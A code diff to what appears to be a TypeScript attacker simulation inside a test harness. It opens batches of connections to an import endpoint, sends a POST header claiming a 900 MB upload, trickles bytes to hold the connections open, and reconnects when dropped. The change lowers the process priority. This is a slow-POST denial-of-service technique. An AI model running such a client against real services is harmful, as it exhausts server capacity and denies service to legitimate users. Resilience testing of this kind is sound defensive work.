@@ -1,5 +1,6 @@
 // Who only holds connections: begins uploads and sends a byte now and then, and begins anew when sent away.
 import { connect, type Socket } from 'node:net'
+import { constants, setPriority } from 'node:os'
 
 export interface DribbleOrder {
   port: number
@@ -22,6 +23,9 @@ const AGAIN_MS = 1000
 /** Opened in one go, so that the machine can keep up with itself. */
 const AT_ONCE = 200
 const HEAD = `POST /api/Fiscan/Import HTTP/1.1\r\nHost: x\r\nContent-Type: multipart/form-data; boundary=x\r\nContent-Length: 900000000\r\n\r\n`
+
+// In life the attacker has machines of its own: here it takes what the product and the class leave of this one.
+setPriority(constants.priority.PRIORITY_LOW)
 
 const open = new Set<Socket>()
 let wanted: DribbleOrder | null = null
